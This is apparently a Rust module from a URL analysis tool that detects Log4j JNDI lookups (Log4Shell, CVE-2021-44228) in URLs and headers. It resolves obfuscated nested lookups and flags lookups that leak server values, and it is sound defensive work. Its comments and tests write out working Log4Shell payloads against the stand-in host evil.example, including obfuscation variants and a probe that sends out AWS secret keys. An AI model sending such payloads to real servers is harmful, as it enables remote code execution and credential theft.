//! Log4j lookups (`jndi-lookup`): `${jndi:ldap://evil.example/a}` in a
//! component. A server running Log4j 2 before 2.15 (CVE-2021-44228,
//! "Log4Shell") resolves the lookups of every text it logs: this one asks
//! the named directory (LDAP, RMI, DNS...) for a Java object, and may load
//! and run the code it is sent. Request logs hold the URL, so the URL is
//! the attack whoever the link's visitor is.
//!
//! Attackers hide the word `jndi` in nested lookups Log4j resolves first
//! (`${${lower:j}ndi:`, `${${::-j}${::-n}${::-d}${::-i}:`,
//! `${${env:X:-j}ndi:`): the nested lookups are resolved as Log4j resolves
//! those that need nothing of the server's state (`lower`, `upper`, and
//! any lookup's default after `:-`); the others stay as written, and so
//! never spell `jndi`. One pass, each byte copied once per level of
//! nesting, at most [`MAX_DEPTH`] levels.
//!
//! A lookup left as written in the JNDI name (`${env:USER}`,
//! `${hostName}`, `${env:AWS_SECRET_ACCESS_KEY}`) is one Log4j fills in
//! from the server's own state before it connects: the value leaves in
//! the name it asks for (`ldap://root.evil.example/`), the commonest
//! Log4Shell probe of all. The name is then read as a URL with each such
//! lookup written as a label of its own name (`env-user.evil.example`).

use crate::analysis::report::list_then_fold;
use crate::analysis::ComponentAnalysis;
use crate::split::Span;
use crate::text::quote;
use crate::warnings::{Warning, WarningCode};

/// The deepest nesting of lookups resolved; deeper, `${` is text.
const MAX_DEPTH: usize = 16;

/// A JNDI lookup found in a text: where it is (its `${` to its `}`), and
/// the name it looks up, its lookups resolved (`ldap://evil.example/a`).
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct JndiLookup {
    pub(crate) start: usize,
    pub(crate) end: usize,
    pub(crate) name: Vec<u8>,
    /// Whether nested lookups spelled part of it.
    pub(crate) nested: bool,
    /// The lookups in the name that Log4j fills in from the server's
    /// state, in order: each as written (`${env:USER}`) and the label it
    /// stands as in [`JndiLookup::reading`] (`env-user`).
    pub(crate) filled: Vec<(Vec<u8>, Vec<u8>)>,
    /// The name as a URL reads it: each filled lookup written as a label
    /// of its own name ([`stand_in`]); the name itself when there is none.
    pub(crate) reading: Vec<u8>,
}

impl JndiLookup {
    /// Whether the name is the lookup's own bytes, as written: no nested
    /// lookup spelled or fills in any of it.
    pub(crate) fn as_written(&self) -> bool {
        !self.nested && self.filled.is_empty()
    }

    /// The name read as a URL whose own labels say where it leads: `None`
    /// when it is no URL, or when a filled lookup stands for its port, its
    /// last label or its whole host (the server fills in where it
    /// connects, so no host of the reading is one).
    pub(crate) fn readable(&self) -> Option<url::Url> {
        let u = url::Url::parse(&String::from_utf8_lossy(&self.reading)).ok()?;
        let last = u
            .host_str()
            .map(|h| h.trim_end_matches('.').rsplit('.').next().unwrap_or(h));
        if last.and_then(|label| self.filled_as(label)).is_some() {
            return None;
        }
        Some(u)
    }

    /// The filled lookup, as written, that `label` stands for.
    fn filled_as(&self, label: &str) -> Option<&[u8]> {
        self.filled
            .iter()
            .find(|(_, s)| s == label.as_bytes())
            .map(|(written, _)| written.as_slice())
    }

    /// The host (and port) the lookup asks, its stand-in labels written
    /// as the lookups they stand for (`${env:USER}.evil.example:1389`).
    fn server(&self) -> Option<String> {
        let u = self.readable()?;
        let host: Vec<String> = u
            .host_str()?
            .split('.')
            .map(|label| match self.filled_as(label) {
                Some(written) => String::from_utf8_lossy(written).into_owned(),
                None => label.to_string(),
            })
            .collect();
        let host = host.join(".");
        Some(match u.port() {
            Some(port) => format!("{host}:{port}"),
            None => host,
        })
    }
}

/// The label a filled lookup stands as in a URL's reading of a name:
/// its own name in lowercase letters, digits and hyphens
/// (`${env:USER}` reads `env-user`), at most a DNS label long.
fn stand_in(body: &[u8]) -> Vec<u8> {
    let mut label: Vec<u8> = Vec::new();
    for &b in body {
        let b = if b.is_ascii_alphanumeric() {
            b.to_ascii_lowercase()
        } else {
            b'-'
        };
        if !(b == b'-' && label.last().is_none_or(|&l| l == b'-')) {
            label.push(b);
        }
    }
    label.truncate(crate::plain::MAX_LABEL);
    while label.last() == Some(&b'-') {
        label.pop();
    }
    if label.is_empty() {
        label.push(b'x');
    }
    label
}

/// The JNDI lookups of `text`, as Log4j would resolve them: every closed
/// lookup, at any depth (Log4j resolves the nested ones too, so
/// `${lower:${jndi:...}}` looks its name up), whose body, its own nested
/// lookups resolved, starts with `jndi:`. One pass with a stack of the
/// open lookups' bodies; an unclosed `${` is text.
pub(crate) fn jndi_lookups(text: &[u8]) -> Vec<JndiLookup> {
    struct Open {
        start: usize,
        body: Vec<u8>,
        nested: bool,
        filled: Vec<(Vec<u8>, Vec<u8>)>,
        reading: Vec<u8>,
    }
    let mut found = Vec::new();
    let mut open: Vec<Open> = Vec::new();
    // `${` deeper than MAX_DEPTH, read as text, whose `}` is text too.
    let mut too_deep = 0usize;
    let mut i = 0;
    while let Some(&b) = text.get(i) {
        if b == b'$' && text.get(i + 1) == Some(&b'{') {
            if open.len() < MAX_DEPTH {
                open.push(Open {
                    start: i,
                    body: Vec::new(),
                    nested: false,
                    filled: Vec::new(),
                    reading: Vec::new(),
                });
            } else {
                too_deep += 1;
                if let Some(top) = open.last_mut() {
                    top.body.extend_from_slice(b"${");
                    top.reading.extend_from_slice(b"${");
                }
            }
            i += 2;
            continue;
        }
        if b == b'}' && too_deep > 0 {
            too_deep -= 1;
        } else if b == b'}' {
            if let Some(done) = open.pop() {
                let jndi = done
                    .body
                    .get(..5)
                    .is_some_and(|h| h.eq_ignore_ascii_case(b"jndi:"));
                if let Some(parent) = open.last_mut() {
                    match value(&done.body) {
                        Some(v) => {
                            parent.body.extend_from_slice(&v);
                            parent
                                .reading
                                .extend_from_slice(&value(&done.reading).unwrap_or_default());
                            parent.nested = true;
                        }
                        None => {
                            let mut kept = b"${".to_vec();
                            kept.extend_from_slice(&done.body);
                            kept.push(b'}');
                            parent.body.extend_from_slice(&kept);
                            let label = stand_in(&done.body);
                            parent.reading.extend_from_slice(&label);
                            parent.filled.push((kept, label));
                        }
                    }
                    parent.nested |= done.nested;
                    parent.filled.extend(done.filled.iter().cloned());
                }
                if jndi {
                    found.push(JndiLookup {
                        start: done.start,
                        end: i + 1,
                        name: done.body.get(5..).unwrap_or_default().to_vec(),
                        nested: done.nested,
                        reading: done.reading.get(5..).unwrap_or_default().to_vec(),
                        filled: done.filled,
                    });
                }
                i += 1;
                continue;
            }
        }
        if let Some(top) = open.last_mut() {
            top.body.push(b);
            top.reading.push(b);
        }
        i += 1;
    }
    found.sort_by_key(|l| l.start);
    found
}

/// What a nested lookup gives back, for those that need nothing of the
/// server's state: a default after `:-` (`${::-j}`, `${env:NOPE:-j}`),
/// `lower:` and `upper:`, and a date format that is one quoted literal
/// (`${date:'j'}`, which `SimpleDateFormat` writes as `j`); `None` for
/// any other, which Log4j fills in from the server's state.
fn value(body: &[u8]) -> Option<Vec<u8>> {
    if let Some(d) = memchr::memmem::find(body, b":-") {
        return Some(body.get(d + 2..).unwrap_or_default().to_vec());
    }
    let after = |prefix: &[u8]| {
        body.get(..prefix.len())
            .filter(|h| h.eq_ignore_ascii_case(prefix))
            .and_then(|_| body.get(prefix.len()..))
    };
    if let Some(rest) = after(b"lower:") {
        return Some(rest.to_ascii_lowercase());
    }
    if let Some([b'\'', literal @ .., b'\'']) = after(b"date:") {
        if !literal.contains(&b'\'') {
            return Some(literal.to_vec());
        }
    }
    after(b"upper:").map(<[u8]>::to_ascii_uppercase)
}

/// `jndi-lookup` for the input as written, whole: a log holds the URL's
/// bytes, and a lookup may span components (`/${jndi:ldap://evil/x}`
/// reads as three path segments). `component_at` gives the component a
/// byte is in; `what` is the text a server logs (`URL`, or a header's
/// value, `User-Agent header`).
pub(crate) fn input_lookup_warnings(
    input: &[u8],
    component_at: impl Fn(usize) -> Option<usize>,
    what: &str,
    out: &mut Vec<Warning>,
) {
    if memchr::memmem::find(input, b"${").is_none() {
        return;
    }
    let found = jndi_lookups(input).into_iter().map(|l| {
        let span = Span::new(l.start, l.end);
        warning(&l, span.of(input), span, component_at(l.start), what)
    });
    list_then_fold(found, "Log4j lookups", out);
}

/// The JNDI lookups of a component's `decoded` text that its text as
/// written (`raw`) does not already hold (`${jndi:ldap://x/a%3D}` is one
/// lookup, read as written, whose name decodes to `ldap://x/a=`): those
/// only decoding writes (`%24%7Bjndi:...`).
pub(crate) fn decoded_only_lookups(raw: &[u8], decoded: &[u8]) -> Vec<JndiLookup> {
    if decoded == raw || memchr::memmem::find(decoded, b"${").is_none() {
        return Vec::new();
    }
    let written: Vec<Vec<u8>> = if memchr::memmem::find(raw, b"${").is_some() {
        jndi_lookups(raw)
            .iter()
            .map(|l| fully_decoded(&l.name))
            .collect()
    } else {
        Vec::new()
    };
    let mut found = jndi_lookups(decoded);
    found.retain(|l| !written.contains(&l.name));
    found
}

/// `name` percent-decoded until nothing changes (at most as many times as
/// a component is): how a finding written in the input reads in a
/// component's last layer (also [`super::template`]'s).
pub(crate) fn fully_decoded(name: &[u8]) -> Vec<u8> {
    let mut text = name.to_vec();
    for _ in 0..crate::percent::MAX_LAYERS {
        let next = crate::percent::decode(&text, false);
        if *next == *text {
            break;
        }
        text = next.into_owned();
    }
    text
}

/// `jndi-lookup` for component `i` once decoded, where decoding changed
/// it (`%24%7Bjndi:...`; the input as written is read whole by
/// [`input_lookup_warnings`]): an application that logs the value logs it
/// decoded. The component is marked whole.
pub(crate) fn lookup_warnings(i: usize, c: &ComponentAnalysis, out: &mut Vec<Warning>) {
    let text = c.last_layer();
    let found = decoded_only_lookups(c.span.of(&c.input), text)
        .into_iter()
        .map(|l| {
            let written = text.get(l.start..l.end).unwrap_or_default();
            warning(&l, written, c.span, Some(i), c.kind.label())
        });
    list_then_fold(found, "Log4j lookups", out);
}

/// The warning of lookup `l`, written `written`, at `span` of component
/// `component`, in a text a server logs as `what`.
fn warning(
    l: &JndiLookup,
    written: &[u8],
    span: Span,
    component: Option<usize>,
    what: &str,
) -> Warning {
    let server = match l.server() {
        Some(server) => format!("the directory at '{}'", crate::text::quote_str(&server)),
        None if l.filled.is_empty() => "the directory it names".to_string(),
        None => "the directory that what the server fills in names".to_string(),
    };
    let nested = if l.nested {
        " (its letters spelled by nested lookups Log4j resolves first)"
    } else {
        ""
    };
    let filled = match l.filled.as_slice() {
        [] => String::new(),
        filled => {
            let names: Vec<String> = filled
                .iter()
                .map(|(written, _)| format!("'{}'", quote(written)))
                .collect();
            let values = if names.len() == 1 {
                "that value"
            } else {
                "those values"
            };
            format!(
                " Log4j first fills in {} from the server's own state, so the server also sends {values} out in the name it asks for (exfiltration).",
                names.join(", ")
            )
        }
    };
    Warning::new(
        WarningCode::JndiLookup,
        vec![span],
        component,
        format!(
            "'{}' is a Log4j lookup of the JNDI name '{}'{nested}: a server running Log4j 2 before 2.15 that logs this {what} asks {server} for a Java object and may run the code it is sent (CVE-2021-44228, Log4Shell).{filled}",
            quote(written),
            quote(&l.name),
        ),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(text: &str) -> Vec<(String, bool)> {
        jndi_lookups(text.as_bytes())
            .into_iter()
            .map(|l| (String::from_utf8_lossy(&l.name).into_owned(), l.nested))
            .collect()
    }

    #[test]
    fn lookups_are_resolved_as_log4j_does() {
        let plain = ("ldap://evil.example:1389/a".to_string(), false);
        assert_eq!(
            names("${jndi:ldap://evil.example:1389/a}"),
            std::slice::from_ref(&plain)
        );
        assert_eq!(names("x=${JNDI:ldap://evil.example:1389/a}&y"), [plain]);
        for hidden in [
            "${${lower:j}ndi:ldap://evil.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
            "${${env:NOPE:-j}ndi:ldap://evil.example/a}",
            "${${upper:j}${lower:N}di:${lower:L}dap://evil.example/a}",
            "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://evil.example/a}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
        ] {
            let found = names(hidden);
            assert_eq!(found.len(), 1, "{hidden}");
            assert!(
                found[0].0.eq_ignore_ascii_case("ldap://evil.example/a"),
                "{hidden}: {found:?}"
            );
            assert!(found[0].1, "{hidden}");
        }
        // Near misses: other lookups, text, an unclosed lookup.
        for text in [
            "${env:HOME}",
            "${date:yyyy}",
            "${jndi",
            "$jndi:ldap://x",
            "{jndi:ldap://x}",
            "${${env:J}ndi:ldap://x}",
        ] {
            assert!(names(text).is_empty(), "{text}");
        }
    }

    /// The warning: on the lookup's bytes in the input, whole where it
    /// spans components; on the component when decoding wrote it.
    #[test]
    fn the_warning_marks_the_lookup() {
        use crate::{analyze, Options};
        let marked = |url: &str| -> Vec<(String, crate::warnings::Severity)> {
            analyze(url.as_bytes(), &Options::default())
                .warnings
                .iter()
                .filter(|w| w.code == WarningCode::JndiLookup)
                .map(|w| {
                    (
                        String::from_utf8_lossy(w.span.of(url.as_bytes())).into_owned(),
                        w.severity,
                    )
                })
                .collect()
        };
        let high = crate::warnings::Severity::High;
        assert_eq!(
            marked("https://v.example/a/${jndi:ldap://evil.example/x}/b"),
            [("${jndi:ldap://evil.example/x}".to_string(), high)]
        );
        assert_eq!(
            marked("https://v.example/?q=%24%7Bjndi:dns://evil.example%7D"),
            [("%24%7Bjndi:dns://evil.example%7D".to_string(), high)]
        );
        for url in [
            "https://v.example/?q=${env:HOME}",
            "https://v.example/{jndi:x}",
        ] {
            assert!(marked(url).is_empty(), "{url}");
        }
        // The fast path sends it to the analysis at every threshold.
        for url in [
            "https://v.example/?q=${jndi:ldap://evil.example/x}",
            "https://v.example/a${jndi:dns://evil.example}",
            "https://v.example/?${jndi:dns://evil.example}=1",
            "https://v.example/#${jndi:dns://evil.example}",
        ] {
            assert!(!marked(url).is_empty(), "{url}");
            let high = crate::warnings::Severity::High;
            assert!(!crate::triage::is_plain_at(url.as_bytes(), high), "{url}");
        }
    }

    /// A lookup Log4j fills in from the server (`${env:USER}`) stays in
    /// the name as written; the URL reading writes it as a label of its
    /// name, so the host is read whole (no port of `USER}.evil...`).
    #[test]
    fn filled_lookups_are_read_as_labels() {
        let [l] = jndi_lookups(
            b"${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.${hostName}.evil.example:1389/${lower:A}}",
        )
        .try_into()
        .expect("one lookup");
        assert_eq!(
            l.name,
            b"ldap://${env:AWS_SECRET_ACCESS_KEY}.${hostName}.evil.example:1389/a"
        );
        assert_eq!(
            l.reading,
            b"ldap://env-aws-secret-access-key.hostname.evil.example:1389/a"
        );
        let written: Vec<&[u8]> = l.filled.iter().map(|(w, _)| w.as_slice()).collect();
        assert_eq!(
            written,
            [&b"${env:AWS_SECRET_ACCESS_KEY}"[..], b"${hostName}"]
        );
        assert!(l.nested && !l.as_written());
        // Inside a resolved lookup, still filled.
        let [l] = jndi_lookups(b"${jndi:dns://${lower:${env:USER}}.evil.example}")
            .try_into()
            .expect("one lookup");
        assert_eq!(l.reading, b"dns://env-user.evil.example");
        assert_eq!(l.filled, [(b"${env:USER}".to_vec(), b"env-user".to_vec())]);
        assert_eq!(stand_in(b"::"), b"x");
        let a = crate::analyze(
            b"https://v.example/?q=${jndi:ldap://${env:USER}.evil.example:1389/a}",
            &crate::Options::default(),
        );
        let codes: Vec<WarningCode> = a.warnings.iter().map(|w| w.code).collect();
        assert!(codes.contains(&WarningCode::JndiLookup), "{codes:?}");
        assert!(!codes.contains(&WarningCode::InvalidPort), "{codes:?}");
        let w = a
            .warnings
            .iter()
            .find(|w| w.code == WarningCode::JndiLookup)
            .expect("jndi");
        assert!(
            w.message.contains("'${env:USER}.evil.example:1389'"),
            "{}",
            w.message
        );
        assert!(
            w.message.contains("fills in '${env:USER}' from the server"),
            "{}",
            w.message
        );
        assert!(a
            .destinations
            .iter()
            .any(|d| d.site.as_deref() == Some("evil.example")));
        // A lookup for the whole host, its last label or its port: where
        // the server connects is its own to fill in; no host is judged.
        for url in [
            &b"https://v.example/?q=${jndi:ldap://${env:HOST}/a}"[..],
            b"https://v.example/?q=${jndi:ldap://evil.${env:TLD}/a}",
            b"https://v.example/?q=${jndi:ldap://evil.example:${env:PORT}/a}",
        ] {
            let a = crate::analyze(url, &crate::Options::default());
            let codes: Vec<WarningCode> = a.warnings.iter().map(|w| w.code).collect();
            assert!(codes.contains(&WarningCode::JndiLookup), "{codes:?}");
            for code in [WarningCode::InternalDestination, WarningCode::InvalidPort] {
                assert!(!codes.contains(&code), "{codes:?}");
            }
            assert_eq!(a.destinations.len(), 1);
        }
    }

    /// Hostile nesting: deep, unclosed, long, in linear time.
    #[test]
    fn deep_and_unclosed_nesting_is_bounded() {
        let deep = "${".repeat(100_000) + &"}".repeat(100_000);
        assert!(names(&deep).is_empty());
        let open = "${".repeat(200_000);
        assert!(names(&open).is_empty());
        let many = "${jndi:ldap://x/}".repeat(10_000);
        assert_eq!(names(&many).len(), 10_000);
    }
}
